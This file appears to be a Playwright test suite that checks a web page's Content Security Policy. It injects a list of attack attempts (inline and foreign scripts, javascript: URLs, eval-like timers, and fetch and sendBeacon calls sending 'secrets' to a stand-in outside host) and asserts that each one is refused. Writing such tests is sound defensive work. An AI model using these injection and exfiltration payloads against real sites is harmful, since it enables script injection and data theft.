import { expect, type Page, test } from "@playwright/test";

/** The expected content security policy, by directive. */
const POLICY: Readonly<Record<string, readonly string[]>> = {
  "default-src": ["'none'"],
  "script-src": ["'self'"],
  "style-src": ["'self'"],
  "img-src": ["'self'", "data:", "blob:"],
  "font-src": ["'self'"],
  "connect-src": ["'self'"],
  "worker-src": ["'self'"],
  "manifest-src": ["'self'"],
  "base-uri": ["'none'"],
  "form-action": ["'none'"],
};

const ELSEWHERE = "https://example.invalid/";

declare global {
  interface Window {
    /** Directives that refused something. */
    refused?: Set<string>;
    /** Set by any code that ran although it must not. */
    hasRun?: string;
  }
}

test("the served document has its policy before anything that the policy governs", async ({
  page,
  request,
}) => {
  const html = await (await request.get("/")).text();
  const [before = "", after] = html.split(/<meta\s+http-equiv="Content-Security-Policy"/);
  expect(after, "there is a policy, and one only").toBeDefined();
  expect(html.match(/Content-Security-Policy/g)).toHaveLength(1);
  expect(before).not.toMatch(/<(script|link|style|img|base|body)\b/);

  await page.goto("/");
  const text = await page
    .locator('head > meta[http-equiv="Content-Security-Policy"]')
    .getAttribute("content");
  const directives = (text ?? "").split(";").map((directive) => directive.trim().split(/\s+/));
  expect(text).not.toContain("unsafe-");
  expect(Object.fromEntries(directives.map(([name, ...sources]) => [name, sources]))).toEqual(POLICY);
  // Of two directives with the same name the first would apply, but the list above would show the second.
  expect(directives).toHaveLength(Object.keys(POLICY).length);
});

interface Attempt {
  readonly what: string;
  /** The directive that refuses it. */
  readonly by: string;
  /** Runs in the page. */
  readonly attempt: (elsewhere: string) => void;
}

/** Each attempt sets `hasRun` if it succeeds, or reaches the other host. The base is last, because it keeps trying. */
const ATTEMPTS: readonly Attempt[] = [
  {
    what: "a script in the document",
    by: "script-src-elem",
    attempt: () => {
      const script = document.createElement("script");
      script.textContent = "window.hasRun = 'inline'";
      document.body.append(script);
    },
  },
  {
    what: "a script of another host",
    by: "script-src-elem",
    attempt: (elsewhere) => {
      const script = document.createElement("script");
      script.src = `${elsewhere}evil.js`;
      script.onload = () => {
        window.hasRun = "foreign";
      };
      document.body.append(script);
    },
  },
  {
    what: "a handler in an attribute",
    by: "script-src-attr",
    attempt: () => {
      const box = document.createElement("div");
      box.innerHTML = `<button onclick="window.hasRun = 'handler'">Press</button>`;
      document.body.append(box);
      box.querySelector("button")?.click();
    },
  },
  {
    what: "an address that is a script",
    by: "script-src-elem",
    attempt: () => {
      const link = document.createElement("a");
      link.href = "javascript:void (window.hasRun = 'address')";
      document.body.append(link);
      link.click();
    },
  },
  {
    what: "a text as a timer's task",
    by: "script-src",
    attempt: () => {
      setTimeout("window.hasRun = 'timer'");
    },
  },
  {
    // In a task of the page itself: code that a test runs directly may have more rights than the page.
    what: "a text as a function",
    by: "script-src",
    attempt: () => {
      setTimeout(() => {
        window.hasRun = new Function("return 'function'")();
      });
    },
  },
  {
    what: "style in an attribute",
    by: "style-src-attr",
    attempt: () => {
      const box = document.createElement("div");
      box.innerHTML = `<p style="position: fixed">Over everything</p>`;
      document.body.append(box);
      const [shown] = box.children;
      if (shown && getComputedStyle(shown).position === "fixed") window.hasRun = "style";
    },
  },
  {
    what: "a sheet of style in the document",
    by: "style-src-elem",
    attempt: () => {
      const style = document.createElement("style");
      style.textContent = "#root { position: fixed }";
      document.head.append(style);
      const root = document.getElementById("root");
      if (root && getComputedStyle(root).position === "fixed") window.hasRun = "sheet";
    },
  },
  {
    what: "a call to another host",
    by: "connect-src",
    attempt: (elsewhere) => {
      void fetch(elsewhere).then(
        () => {
          window.hasRun = "fetch";
        },
        () => undefined,
      );
    },
  },
  {
    what: "a message to another host",
    by: "connect-src",
    attempt: (elsewhere) => void navigator.sendBeacon(elsewhere, "secrets"),
  },
  {
    what: "an image of another host",
    by: "img-src",
    attempt: (elsewhere) => {
      new Image().src = `${elsewhere}pixel.png`;
    },
  },
  {
    what: "another page in this one",
    by: "frame-src",
    attempt: (elsewhere) => {
      const frame = document.createElement("iframe");
      frame.src = elsewhere;
      document.body.append(frame);
    },
  },
  {
    what: "a worker out of a text",
    by: "worker-src",
    attempt: () => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage('worker')"])));
      worker.onmessage = ({ data }) => {
        window.hasRun = data;
      };
    },
  },
  {
    what: "a form sent off",
    by: "form-action",
    attempt: (elsewhere) => {
      const form = document.createElement("form");
      form.action = elsewhere;
      document.body.append(form);
      form.requestSubmit();
    },
  },
  {
    what: "another base for all addresses",
    by: "base-uri",
    attempt: (elsewhere) => {
      const base = document.createElement("base");
      base.href = elsewhere;
      document.head.append(base);
      if (document.baseURI.startsWith(elsewhere)) window.hasRun = "base";
    },
  },
];

/**
 * Opens the page and records what its policy refuses.
 * @returns addresses on other hosts that were reached.
 */
async function opened(page: Page): Promise<readonly string[]> {
  const reached: string[] = [];
  await page.route(
    ({ hostname }) => hostname !== "localhost",
    async (route) => {
      reached.push(route.request().url());
      await route.fulfill({ body: "", headers: { "access-control-allow-origin": "*" } });
    },
  );
  await page.addInitScript(() => {
    const refused = new Set<string>();
    window.refused = refused;
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, disposition }) => {
      refused.add(disposition === "enforce" ? effectiveDirective : disposition);
    });
  });
  await page.goto("/");
  await expect(page.getByRole("button", { name: "Play now" }).first()).toBeVisible();
  return reached;
}

test("injected code can neither run nor send anything out of the page", async ({ page }) => {
  const reached = await opened(page);
  const refused = () => page.evaluate(() => [...(window.refused ?? [])]);
  expect(await refused(), "the page itself is refused nothing").toEqual([]);
  for (const { what, by, attempt } of ATTEMPTS) {
    await page.evaluate(() => window.refused?.clear());
    await page.evaluate(attempt, ELSEWHERE);
    await expect.poll(refused, what).toEqual([by]);
    expect(await page.evaluate(() => window.hasRun), `nothing of it ran: ${what}`).toBeUndefined();
    expect(reached, `no other host was asked: ${what}`).toEqual([]);
    expect(page.url(), `the page is where it was: ${what}`).toMatch(/^http:\/\/localhost/);
  }
});
